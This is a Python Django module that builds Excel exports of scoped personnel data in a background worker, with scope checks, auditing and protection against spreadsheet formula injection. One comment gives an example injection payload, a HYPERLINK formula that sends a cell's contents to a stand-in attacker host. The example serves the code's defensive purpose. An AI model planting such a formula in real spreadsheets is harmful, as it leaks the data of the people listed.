"""Excel exports of a scope, built by a Celery worker, never in the request: the admin asks
(`ekspor_minta`), watches the progress page, and downloads the file when it is ready.

Apps register their kinds (AppConfig.ready): a label, whether the kind needs a period,
the header (and, for a shape that has them, title rows above it) and a function yielding
the rows of a unit's subtree for the parameters.
Rows are streamed into a write-only workbook, so memory stays flat for a whole province.
"""

import io
import logging
from dataclasses import dataclass

from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.db import transaction
from django.utils import timezone
from django.utils.translation import gettext as _

from .access import admin_scope, unit_in_scope
from .antrean import antre_setelah_commit
from .audit import audit_record
from .models import Ekspor

logger = logging.getLogger(__name__)
PROGRESS_EVERY = 500  # rows between progress updates
# A text cell starting with one of these could be taken as a formula by a spreadsheet
# (formula injection: a name like '=HYPERLINK("http://evil.example/?x="&A3)' on a person).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def sel_teks(sheet, value):
    """The cell to write for `value`: text that looks like a formula is written as text
    (a string cell, shown as typed), everything else as it is."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str) and value.startswith(FORMULA_START):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def baris_aman(sheet, row):
    return [sel_teks(sheet, value) for value in row]


@dataclass
class Jenis:
    label: object
    header: list
    rows: object  # rows(unit, parameter) -> (count, iterable of row lists)
    butuh_periode: bool = False
    judul: object = None  # judul(unit, parameter) -> rows written above the header


JENIS = {}


def register(kode, **spec):
    JENIS[kode] = Jenis(**spec)


@transaction.atomic
def ekspor_minta(*, jenis, unit, parameter, actor):
    """An admin asks for an export of a unit in their scope; a worker builds it."""
    if jenis not in JENIS:
        raise ValidationError(_("Unknown kind of export."))
    if not unit_in_scope(admin_scope(actor), unit):
        raise ValidationError(_("This unit is outside your scope."))
    ekspor = Ekspor.objects.create(jenis=jenis, unit=unit, parameter=parameter,
                                   diminta_oleh=actor)
    audit_record(actor=actor, action="ekspor.minta", target=ekspor,
                 after={"jenis": jenis, "unit": unit.pk, **parameter})
    antre_setelah_commit("ekinerja.tasks.ekspor_jalankan", ekspor.pk, gagal=lambda: (
        Ekspor.objects.filter(pk=ekspor.pk).update(
            status=Ekspor.Status.GAGAL, pesan=_("The task queue is unavailable; try later."))))
    return ekspor


def ekspor_jalankan(ekspor_id):
    """Build the workbook (claimed once: a redelivered task does nothing)."""
    from openpyxl import Workbook

    if Ekspor.objects.filter(pk=ekspor_id, status=Ekspor.Status.ANTRE).update(
            status=Ekspor.Status.BERJALAN) != 1:
        return False
    ekspor = Ekspor.objects.select_related("unit").get(pk=ekspor_id)
    spec = JENIS[ekspor.jenis]
    try:
        total, rows = spec.rows(ekspor.unit, ekspor.parameter)
        book = Workbook(write_only=True)
        sheet = book.create_sheet(title=str(spec.label)[:31])
        for row in spec.judul(ekspor.unit, ekspor.parameter) if spec.judul else ():
            sheet.append(baris_aman(sheet, row))
        sheet.append(baris_aman(sheet, [str(h) for h in spec.header]))
        count = 0
        for row in rows:
            sheet.append(baris_aman(sheet, row))
            count += 1
            if count % PROGRESS_EVERY == 0 and total:
                Ekspor.objects.filter(pk=ekspor.pk).update(
                    progres=min(99, 100 * count // total))
        buffer = io.BytesIO()
        book.save(buffer)
    except Exception:  # noqa: BLE001 - the admin is told, the details are logged for us
        logger.exception("export %s failed", ekspor_id)
        Ekspor.objects.filter(pk=ekspor.pk).update(
            status=Ekspor.Status.GAGAL,
            pesan=_("The file could not be built; the error was logged for the BKD team."))
        return False
    name = f"{ekspor.jenis}-{ekspor.unit.kode}-{timezone.localdate():%Y%m%d}.xlsx"
    ekspor.berkas.save(name, ContentFile(buffer.getvalue()), save=False)
    ekspor.nama_berkas, ekspor.baris, ekspor.progres = name, count, 100
    ekspor.status, ekspor.selesai_pada = Ekspor.Status.SELESAI, timezone.now()
    ekspor.save(update_fields=["berkas", "nama_berkas", "baris", "progres", "status",
                               "selesai_pada"])
    return True
